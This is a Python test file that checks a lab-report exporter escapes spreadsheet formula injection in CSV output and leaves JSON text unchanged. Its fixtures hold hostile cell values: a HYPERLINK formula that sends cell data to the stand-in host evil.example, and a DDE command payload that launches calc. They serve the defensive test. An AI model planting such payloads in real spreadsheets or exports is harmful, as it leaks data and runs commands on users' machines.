"""Operators' CSVs: a cell others chose (a username, a lab key, a cloud's words) never runs as a formula."""

from __future__ import annotations

import csv
import io

from labxblock import reports

COLUMNS = ("learner", "lab_key", "status_reason", "up_hours")


def test_cells_a_spreadsheet_would_run_are_quoted_and_the_rest_are_as_they_were() -> None:
    records = [
        {"learner": "=HYPERLINK(\"http://evil.example/\"&A1)", "lab_key": "+cmd|' /C calc'!A0",
         "status_reason": "-2+3", "up_hours": 1.5},
        {"learner": "@SUM(1+1)", "lab_key": "\tlab", "status_reason": "\rx", "up_hours": 0},
        {"learner": "ada", "lab_key": "lab-1", "status_reason": "create_failed: a=b", "up_hours": None},
    ]
    out = io.StringIO()
    reports.write(records, COLUMNS, "csv", out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [
        list(COLUMNS),
        ["'=HYPERLINK(\"http://evil.example/\"&A1)", "'+cmd|' /C calc'!A0", "'-2+3", "1.5"],
        ["'@SUM(1+1)", "'\tlab", "'\rx", "0"],
        ["ada", "lab-1", "create_failed: a=b", ""],
    ]
    # JSON and the table are not read by spreadsheets: they keep the text as it is.
    out = io.StringIO()
    reports.write(records[:1], COLUMNS, "json", out)
    assert '"=HYPERLINK(' in out.getvalue()
